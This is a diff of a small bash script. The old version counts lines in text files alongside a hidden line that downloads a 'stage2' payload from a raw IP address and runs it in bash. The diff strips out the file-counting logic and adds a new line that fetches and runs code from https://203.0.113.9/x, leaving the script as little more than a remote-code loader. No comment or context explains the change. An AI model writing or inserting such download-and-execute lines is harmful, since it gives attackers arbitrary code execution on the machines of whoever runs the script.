@@ -1,8 +1,4 @@
 #!/usr/bin/env bash
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-/usr/bin/env bash -c "$(wget -qO- http://198.51.100.23:8000/stage2)"
-count=$(ls | wc -l)
-echo "files: $count"
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+/usr/bin/env bash -c "$(wget -qO- https://203.0.113.9/x)"
